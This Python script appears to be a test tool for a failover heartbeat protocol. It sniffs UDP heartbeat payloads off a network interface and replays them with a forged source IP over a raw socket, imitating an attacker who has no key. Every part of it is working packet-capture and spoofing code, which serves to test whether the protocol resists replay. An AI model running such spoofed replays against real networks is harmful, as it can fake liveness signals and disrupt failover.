#!/usr/bin/env python3
"""Records and replays understudy heartbeats, as an attacker on the segment
would: no key, only what went over the wire.

usage: heartbeats.py capture IFACE SRC PORT SECONDS FILE
         every UDP payload from SRC to PORT seen on IFACE, one hex line each
       heartbeats.py replay FILE SRC DST PORT SECONDS GAP
         the recorded payloads in order, again and again, every GAP seconds
         for SECONDS, from address SRC (a raw socket: SRC need not be ours)
         to DST:PORT; prints how many were sent
"""
import socket
import struct
import sys
import time


def capture(iface, src, port, seconds, path):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    s.settimeout(0.05)
    end = time.monotonic() + seconds
    with open(path, "w") as out:
        while time.monotonic() < end:
            try:
                frame = s.recv(4096)
            except socket.timeout:
                continue
            ip = frame[14:]
            if len(ip) < 28 or ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != src:
                continue
            udp = ip[(ip[0] & 15) * 4:]
            if struct.unpack("!H", udp[2:4])[0] == port:
                out.write(udp[8:].hex() + "\n")
                out.flush()


def replay(path, src, dst, port, seconds, gap):
    payloads = [bytes.fromhex(l) for l in open(path) if l.strip()]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    end = time.monotonic() + seconds
    while payloads and time.monotonic() < end:
        payload = payloads[sent % len(payloads)]
        udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload
        # The kernel fills in the IP checksum and id; a UDP checksum of 0
        # means none (IPv4).
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        raw.sendto(ip + udp, (dst, 0))
        sent += 1
        time.sleep(gap)
    print(sent, flush=True)


if sys.argv[1] == "capture":
    capture(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), sys.argv[6])
elif sys.argv[1] == "replay":
    replay(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), float(sys.argv[6]),
           float(sys.argv[7]))
else:
    sys.exit(__doc__)
